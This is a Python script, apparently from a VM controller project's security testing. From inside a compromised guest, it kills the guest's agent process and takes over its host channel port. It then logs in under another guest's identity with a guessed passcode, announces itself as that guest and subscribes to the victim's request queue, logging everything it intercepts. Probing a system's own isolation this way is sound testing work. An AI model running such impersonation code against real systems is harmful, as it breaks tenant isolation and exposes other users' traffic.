"""Runs in a guest that is taken over: ends its agent, and tries to be another guest.

Takes the other guest's id; what it hears goes to rogue.log beside it. Not imported by any test.
"""

from __future__ import annotations

import os
import select
import signal
import sys
import time
from pathlib import Path

from vmcontroller.common.channel import PADDING, Deframer, Frame, Kind, Numbering
from vmcontroller.common.destinations import CONNECTIONS, requests_of
from vmcontroller.common.errors import NotConnected
from vmcontroller.common.model import GuestId
from vmcontroller.common.stomp.frames import Frame as StompFrame
from vmcontroller.common.stomp.frames import Version, encode
from vmcontroller.guest.channel import CHANNEL_PATH, open_port

ANSWER_S = 5.0


def opened() -> int:
    """Take the port as soon as the agent is gone."""
    os.kill(int(Path("/run/vmcontroller-guest.pid").read_text()), signal.SIGKILL)
    while True:
        try:
            return open_port(CHANNEL_PATH)
        except NotConnected:
            time.sleep(0.01)


class Rogue:
    """One session on the port after the other."""

    def __init__(self, log: Path) -> None:
        self._port = opened()
        os.set_blocking(self._port, True)
        self._log = log
        self._deframer = Deframer()

    def say(self, number: int, *frames: StompFrame) -> None:
        """Say this in a session of its own, and log what is answered."""
        numbering = Numbering(number)
        os.write(self._port, PADDING + Frame(kind=Kind.OPEN, session=number).encode())
        for frame in frames:
            for octets in numbering.frames(encode(frame, Version.V1_2)):
                os.write(self._port, octets)
        until_s = time.monotonic() + ANSWER_S
        while time.monotonic() < until_s:
            if select.select([self._port], [], [], 0.1)[0]:
                self._deframer.push(os.read(self._port, 65536))
            while (frame := self._deframer.next_frame()) is not None:
                if frame.session == number:
                    with self._log.open("ab") as log:
                        log.write(frame.payload)


def main(victim: GuestId) -> None:
    """Log in as the victim; speak in its name; listen to what is for it."""
    connect = StompFrame(
        "CONNECT",
        (("accept-version", "1.2"), ("host", "/"), ("login", victim), ("passcode", "1-guess")),
    )
    hello = b'HELLO {"descriptor": {"id": "%s"}, "session": "rogue"}' % victim.encode()
    rogue = Rogue(Path(__file__).with_name("rogue.log"))
    rogue.say(
        1,
        connect,
        StompFrame("SEND", (("destination", CONNECTIONS), ("from", victim)), hello),
    )
    rogue.say(
        2,
        connect,
        StompFrame("SUBSCRIBE", (("destination", requests_of(victim)), ("id", "0"))),
    )


if __name__ == "__main__":
    main(GuestId(sys.argv[1]))
